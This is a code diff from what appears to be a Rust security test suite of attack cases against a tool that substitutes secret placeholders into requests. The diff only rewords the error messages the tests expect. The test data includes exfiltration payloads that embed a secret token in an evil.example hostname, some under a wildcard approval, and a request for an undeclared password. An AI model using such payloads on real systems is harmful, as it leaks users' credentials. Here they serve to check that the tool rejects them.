@@ -78,13 +78,13 @@ pub(super) fn attacks() -> Vec<Attack> {
             "secrets-place-host",
             "A secret is put into the name of a host",
             json!({ "url": "https://${secret.token}.evil.example/" }),
-            invalid("has characters that no name of a host has"),
+            invalid("has characters that are not allowed in host names"),
         ),
         attack(
             Class::Secrets,
             ("secrets-place-wildcard", "A secret is put into the name of a host that a wildcard approves"),
             PLACEHOLDERS,
-            invalid("has characters that no name of a host has"),
+            invalid("has characters that are not allowed in host names"),
             |rig| async move {
                 let connection = rig.approved(&["https://*.evil.example"]).await;
                 let send = json!({ "do": "send", "url": "https://${secret.token}.evil.example/" });
@@ -101,7 +101,7 @@ pub(super) fn attacks() -> Vec<Attack> {
             "secrets-place-other",
             "A secret is named that the spec does not declare",
             json!({ "query": [["a", "${secret.password}"]] }),
-            invalid("names no secret that can be filled in"),
+            invalid("does not name a secret that can be filled in"),
         ),
         attack(
             Class::Secrets,
